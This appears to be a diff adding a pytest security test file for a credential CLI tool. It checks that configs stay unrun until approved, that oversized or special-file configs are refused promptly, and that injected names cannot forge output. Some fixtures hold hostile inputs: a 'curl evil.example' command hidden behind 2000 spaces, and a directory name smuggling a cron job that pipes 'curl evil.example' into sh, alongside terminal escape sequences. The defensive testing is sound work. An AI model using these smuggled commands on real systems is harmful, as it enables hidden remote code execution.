@@ -1,0 +1,196 @@
+"""Attacks by a config that nobody has approved, or by what it makes a person approve."""
+
+import os
+import re
+import time
+from collections.abc import Callable
+
+import pytest
+from measured import MIB, measured
+from test_cli_trust import allow, ended, records, terminal
+from world import CONFIG, World
+
+LATE = 5.0
+"""Seconds in which any start is over; on an idle machine the longest of these takes two."""
+
+MOST = 96 * MIB
+"""Bytes of memory, of which Python, YAML and the schema take a third."""
+
+
+# -- before it is allowed -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("words", [["init"], ["init", "-p", "live"], ["secret", "set"]])
+def test_setting_up_does_not_run_what_a_loaded_env_file_names(
+    words: list[str], world: World
+) -> None:
+    """Neither its command, nor a request with what was just typed to a host of its choosing."""
+    world.script("vault", f"touch {world.root}/ran; echo secret")
+    text = CONFIG.replace("{{ file: live.client-secret }}", "{{ command: [vault] }}")
+    path = world.configure(text, directory=world.project)
+    given = f"{world.client_secret}\n{world.refresh_token}\n"
+    done = world.run(*words, given=given, TASTYAUTH_CONFIG=path)
+    assert (done.code, "tastyauth allow" in done.err) == (78, True)
+    assert not os.path.exists(f"{world.root}/ran")
+    assert world.simulator.token_requests == 0
+
+
+def test_adding_a_profile_approves_nothing_that_was_not_shown(world: World) -> None:
+    """What `init` has written itself needs no question; what stood there before does."""
+    path = world.configure(directory=world.project)
+    with open(path, "rb") as file:
+        before = file.read()
+    done = world.run(
+        *("init", "-p", "more", "--environment", "sandbox", "--store", "file"),
+        *("--client-id", world.simulator.application.client_id),
+        given=f"{world.client_secret}\n{world.refresh_token}\n",
+        TASTYAUTH_CONFIG=path,
+    )
+    assert done.code == 78
+    assert records(world) == []
+    with open(path, "rb") as file:
+        assert file.read() == before
+
+
+def fifo(path: str) -> None:
+    os.mkfifo(path, 0o600)
+
+
+def to_the_terminal(path: str) -> None:
+    os.symlink("/dev/tty", path)
+
+
+def to_endless_zeros(path: str) -> None:
+    os.symlink("/dev/zero", path)
+
+
+def to_stdin(path: str) -> None:
+    os.symlink("/dev/stdin", path)
+
+
+@pytest.mark.parametrize("make", [fifo, to_the_terminal, to_endless_zeros, to_stdin])
+@pytest.mark.parametrize("how", ["found", "named by a variable"])
+def test_a_config_that_is_no_file_keeps_nobody(
+    make: Callable[[str], None], how: str, world: World
+) -> None:
+    """A repository can hold a link to a terminal, an archive a named pipe."""
+    path = f"{world.project}/{'tastyauth.yaml' if how == 'found' else 'other.yaml'}"
+    make(path)
+    variables = {} if how == "found" else {"TASTYAUTH_CONFIG": path}
+    with terminal(world, "token", **variables) as child:
+        child.timeout = LATE
+        code, _ = ended(child)
+    assert code in (66, 78)
+    assert world.simulator.token_requests == 0
+
+
+LARGEST = 64 * 1024
+
+
+def filled(head: str, piece: Callable[[int], str]) -> str:
+    """`head`, and as many pieces as a config has room for."""
+    text, number = head, 0
+    while len(text) + len(more := piece(number)) < LARGEST:
+        text, number = text + more, number + 1
+    return text
+
+
+PROFILES = "version: 1\ndefault_profile: p0\nprofiles:\n"
+PROFILE = """\
+  p{0}:
+    environment: sandbox
+    client_id: 11111111-2222-4333-8444-555555555555
+    client_secret: {{ command: [vault, "{0}"] }}
+    refresh_token: {{ env: A{0} }}
+"""
+ONE_PROFILE = PROFILES + PROFILE.format(0).rpartition("    refresh_token")[0]
+
+LARGE = {
+    "profiles": filled(PROFILES, PROFILE.format),
+    "commands": filled(
+        f"{ONE_PROFILE}    refresh_token:\n      first_of:\n",
+        lambda number: f"      - {{ command: [vault, '{number}'] }}\n",
+    ),
+    "exports": filled(
+        f"{PROFILES}{PROFILE.format(0)}    exports:\n",
+        lambda number: f"      A_{number}: access_token\n",
+    ),
+    "arguments": filled(
+        f"{ONE_PROFILE}    refresh_token:\n      command:\n        - vault\n",
+        lambda number: "        - x\n",
+    ),
+    "mistakes": filled(PROFILES, lambda number: f"  p{number}: {{ client_sceret: {number} }}\n"),
+    "nothing but brackets": "[" * (LARGEST - 1),
+    "one word": "a" * (LARGEST - 1),
+    "more than a config may have": "#" * 40 * MIB,
+}
+
+
+@pytest.mark.parametrize("name", LARGE)
+@pytest.mark.parametrize("words", ["env", "allow --print"])
+def test_the_largest_config_is_refused_in_time(name: str, words: str, world: World) -> None:
+    """Whatever is in its 64 KiB, and before anybody has looked at it."""
+    world.write(f"{world.project}/tastyauth.yaml", LARGE[name])
+    world.script("vault", "exit 1")
+    run = measured(world, *words.split())
+    assert run.completed.code == (0 if "--print" in words and "runs: " in run.completed.out else 78)
+    assert run.busy < LATE
+    assert run.memory < MOST
+
+
+# -- when somebody is asked -----------------------------------------------------------------------
+
+
+def test_blanks_push_no_part_of_an_argument_out_of_sight(world: World) -> None:
+    """Each is spelled out, where there is more than one."""
+    argument = "true" + " " * 2000 + "; curl evil.example"
+    text = CONFIG.replace("file: live.client-secret", f"command: [sh, -c, '{argument}']")
+    world.configure(text, directory=world.project)
+    [line] = [line for line in world.run("allow", "--print").out.split("\n") if "curl" in line]
+    assert r"true" + r"\u0020" * 2000 + "; curl evil.example" in line
+    assert "  " not in line.lstrip()
+
+
+def test_a_long_plan_is_shown_again_in_time(world: World) -> None:
+    """To find the difference of two that somebody has made for it would take hours."""
+
+    world.script("vault", "exit 1")
+
+    def plan(letter: str) -> str:
+        members = (f"        - {{ command: [vault, {letter}{number}] }}\n" for number in range(900))
+        return f"{ONE_PROFILE}    refresh_token:\n      first_of:\n{''.join(members)}"
+
+    path = f"{world.project}/tastyauth.yaml"
+    world.write(path, plan("a"))
+    allow(world, "y")
+    world.write(path, plan("b"))
+    began = time.monotonic()
+    _, shown, _ = allow(world, "n")
+    assert time.monotonic() - began < LATE
+    assert "b899" in shown
+
+
+def test_a_directory_forges_no_line(world: World) -> None:
+    """Its name may hold a line break, or what steers a terminal."""
+    world.project = f"{world.root}/a\nforged: allowed\x1b[2K"
+    world.configure(directory=world.project)
+    plan = world.run("allow", "--print").out
+    hash_ = plan.rpartition("sha256: ")[2].strip()
+    for words in ("-v token", "status", "-v doctor --offline", "deny", "validate", "-v validate"):
+        done = world.run(*words.split(), TASTYAUTH_TRUST_SHA256=hash_)
+        for text in (done.out, done.err):
+            assert all(letter.isprintable() for letter in text.replace("\n", "")), words
+            assert not re.search("^(tastyauth: )?forged", text, re.MULTILINE), words
+
+
+def test_a_line_for_the_crontab_is_one_line(world: World) -> None:
+    """A directory whose name holds a line break would add a job of its own."""
+    world.project = f"{world.root}/a\n* * * * *  curl evil.example | sh #"
+    world.configure(directory=world.project)
+    plan = world.run("allow", "--print").out
+    done = world.run(
+        *("doctor", "--offline", "--cron"),
+        TASTYAUTH_TRUST_SHA256=plan.rpartition("sha256: ")[2].strip(),
+    )
+    assert "crontab" in done.out
+    assert "\n* * * * *" not in done.out
